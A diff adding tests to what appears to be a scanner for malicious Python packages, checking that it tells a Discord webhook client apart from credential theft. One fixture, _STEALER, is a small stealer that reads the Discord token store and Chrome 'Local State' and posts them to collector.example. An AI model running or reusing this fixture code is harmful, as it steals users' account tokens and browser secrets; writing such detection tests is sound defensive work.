@@ -617,3 +617,56 @@ def test_a_preload_helper_the_module_feeds_a_fetched_url_stays_serious():
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": src})
     assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
     assert result.verdict in FLAGGED
+
+
+# -- credential stores are files: not a web page's address, not a word inside another --------
+
+_CLIENT = """
+import requests
+
+class Notifier:
+    service_url = "https://discord.com/"
+    setup_url = "https://example.org/services/discord/"
+
+    def send(self, body):
+        return requests.post(self.service_url + "api/webhooks", json=body)
+
+
+def timeout_statement(tx, ms):
+    tx.execute_raw(f"SET LOCAL statement_timeout = {ms}")
+"""
+
+_STEALER = """
+import os
+import requests
+
+ROOT = os.getenv("APPDATA", "")
+STORES = [ROOT + "/discord/Local Storage/leveldb", ROOT + "/Google/Chrome/User Data/Local State"]
+
+def collect():
+    for store in STORES:
+        with open(store, "rb") as f:
+            requests.post("https://collector.example/upload", data=f.read())
+"""
+
+
+def test_a_web_address_or_a_longer_word_is_not_a_credential_store():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _CLIENT})
+    assert not found(result, "capability.credential-path")
+    assert not found(result, "intent.credential-theft")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_credential_store_path_in_code_that_talks_to_the_network_is_still_theft():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _STEALER})
+    assert found(result, "capability.credential-path")
+    [theft] = found(result, "intent.credential-theft")
+    assert theft.severity == "high"
+    assert result.verdict in FLAGGED
+
+
+def test_the_same_store_named_after_a_web_address_in_one_file_is_still_found():
+    both = _CLIENT + '\nSTORE = os.getenv("APPDATA", "") + "/discord/Local Storage/leveldb"\n'
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "import os\n" + both})
+    [path] = found(result, "capability.credential-path")
+    assert "discord" in path.evidence.lower() and path.line > 10
